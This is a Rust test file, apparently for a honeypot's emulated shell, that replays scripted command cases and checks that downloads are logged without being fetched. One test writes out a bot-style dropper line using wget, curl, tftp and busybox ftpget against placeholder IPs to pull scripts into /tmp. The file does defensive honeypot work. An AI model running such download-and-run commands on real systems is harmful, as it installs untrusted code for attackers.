//! Lines and what the machine answers: the files in `cases/`.
//!
//! A case begins with `$ LINE`; what follows is everything the line says, standard error after standard output, up to
//! the next case. A last line `? N` is an exit status other than 0. `! USER` starts a new shell on a terminal, `! USER
//! exec` one without. Lines that begin with `#` are remarks.

#![allow(clippy::unwrap_used, clippy::panic)] // tests

mod visit;

use visit::{Visit, on_a_trap_thread};

fn check(name: &'static str, text: &'static str) {
    on_a_trap_thread(move |runtime| {
        runtime.block_on(async {
            let mut visit = Visit::new("root", true);
            let mut lines = text.lines().enumerate().filter(|(_, line)| !line.starts_with('#')).peekable();
            let mut seen = 0;
            while let Some((number, line)) = lines.next() {
                if let Some(user) = line.strip_prefix("! ") {
                    let (user, tty) = user.strip_suffix(" exec").map_or((user, true), |user| (user, false));
                    visit = Visit::new(user, tty);
                    continue;
                }
                let Some(typed) = line.strip_prefix("$ ") else { continue };
                let (mut expected, mut status) = (String::new(), 0);
                while let Some((_, line)) =
                    lines.next_if(|(_, line)| !line.starts_with("$ ") && !line.starts_with("! "))
                {
                    match line.strip_prefix("? ").and_then(|status| status.parse().ok()) {
                        Some(number) => status = number,
                        None => expected += &format!("{line}\n"),
                    }
                }
                let (out, err, finished) = visit.run(typed).await;
                let said = format!("{out}{err}");
                assert_eq!(
                    said.trim_end_matches('\n'),
                    expected.trim_end_matches('\n'),
                    "{name}:{}: {typed}",
                    number + 1
                );
                assert_eq!(finished.status, status, "{name}:{}: {typed}", number + 1);
                seen += 1;
            }
            assert!(seen > 0, "{name} has no cases");
        });
    });
}

#[test]
fn what_the_machine_is() {
    check("machine", include_str!("cases/machine.txt"));
}

#[test]
fn what_a_terminal_keeps() {
    check("keeping", include_str!("cases/keeping.txt"));
}

#[test]
fn what_nobody_had_listed() {
    check("faults", include_str!("cases/faults.txt"));
}

#[test]
fn what_further_programs_do() {
    check("programs", include_str!("cases/programs.txt"));
}

#[test]
fn what_an_inventory_finds() {
    check("inventory", include_str!("cases/inventory.txt"));
}

#[test]
fn what_the_systems_programs_say() {
    check("system", include_str!("cases/system.txt"));
}

#[test]
fn what_the_shell_says() {
    check("shell", include_str!("cases/shell.txt"));
}

#[test]
fn what_bots_type() {
    check("bots", include_str!("cases/bots.txt"));
}

#[test]
fn what_programs_say_about_files() {
    check("files", include_str!("cases/files.txt"));
}

#[test]
fn what_dash_says() {
    check("dash", include_str!("cases/dash.txt"));
}

#[test]
fn what_programs_say_about_themselves() {
    check("words", include_str!("cases/words.txt"));
}

#[test]
fn downloads_are_recorded_and_not_made() {
    on_a_trap_thread(|runtime| {
        runtime.block_on(async {
            let mut visit = Visit::new("root", true);
            let line = "cd /tmp; wget http://192.0.2.7/a.sh; curl -o b http://example.org/b; tftp -g -r c 192.0.2.8; busybox ftpget 192.0.2.9 d e";
            visit.run(line).await;
            visit.run("wget ftp://192.0.2.7/plain").await;
            let urls: Vec<(String, String)> = visit
                .notes
                .lock()
                .unwrap()
                .iter()
                .map(|event| match event {
                    wire::EventKind::FileDownload { url, destfile, .. } => (url.clone(), destfile.clone()),
                    other => panic!("{other:?}"),
                })
                .collect();
            let expected = [
                ("http://192.0.2.7/a.sh", "/tmp/a.sh"),
                ("http://example.org/b", "/tmp/b"),
                ("tftp://192.0.2.8/c", "/tmp/c"),
                ("ftp://192.0.2.9/e", "/tmp/d"),
                ("ftp://192.0.2.7/plain", "/tmp/plain"),
            ];
            assert_eq!(urls, expected.map(|(url, file)| (url.to_owned(), file.to_owned())));
        });
    });
}

#[test]
fn unknown_words_are_told() {
    on_a_trap_thread(|runtime| {
        runtime.block_on(async {
            let mut visit = Visit::new("root", true);
            assert_eq!(visit.run("system").await.2.not_found, ["system"]);
            assert_eq!(visit.run("linuxshell | cat; nosuch1").await.2.not_found, ["linuxshell", "nosuch1"]);
            assert!(visit.run("uname").await.2.not_found.is_empty());
        });
    });
}

#[test]
fn what_is_run_and_what_is_left_running() {
    check("scripts", include_str!("cases/scripts.txt"));
}

#[test]
fn what_options_do() {
    check("options", include_str!("cases/options.txt"));
}
